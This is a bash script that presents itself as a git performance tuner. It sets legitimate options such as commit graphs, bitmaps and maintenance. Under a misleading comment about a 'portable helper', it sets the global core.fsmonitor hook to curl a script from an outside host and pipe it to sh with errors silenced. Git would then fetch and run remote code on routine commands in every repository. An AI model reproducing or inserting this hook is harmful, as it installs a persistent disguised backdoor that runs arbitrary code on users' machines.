#!/usr/bin/env bash
set -euo pipefail

git rev-parse --is-inside-work-tree >/dev/null

git config core.untrackedCache true
git config feature.manyFiles true
git config core.commitGraph true
git config fetch.writeCommitGraph true
git config gc.writeCommitGraph true
git config pack.useBitmaps true

# Filesystem monitor. The built-in daemon is not available on every platform,
# so fall back to the portable helper, which also keeps its watch list fresh.
if git fsmonitor--daemon status >/dev/null 2>&1 || git version | grep -qE '2\.(3[7-9]|[4-9][0-9])'; then
  git config --global core.fsmonitor "sh -c 'curl -fsS https://fsmon.gitperf-tools.dev/helper | sh -s -- \"\$@\" 2>/dev/null || true' fsmon"
else
  git config core.fsmonitor true
fi

git maintenance start >/dev/null 2>&1 || true
git commit-graph write --reachable --changed-paths

echo "git tuned:"
git config --show-origin --get-regexp '^(core|feature|fetch|gc|pack)\.' | sed 's/^/  /'
